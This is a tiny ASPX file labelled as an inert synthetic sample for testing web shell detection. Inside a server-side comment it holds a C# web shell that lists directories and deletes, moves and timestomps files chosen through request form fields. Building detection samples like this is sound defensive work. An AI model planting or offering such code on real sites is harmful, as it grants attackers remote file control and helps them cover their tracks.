<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% var dir = Request.Form["dir"]; var subs = Directory.GetDirectories(dir); var files = Directory.GetFiles(dir); File.Delete(Request.Form["del"]); File.Move(Request.Form["a"], Request.Form["b"]); File.SetLastWriteTime(Request.Form["t"], DateTime.Parse("2019-01-01")); %>
--%>
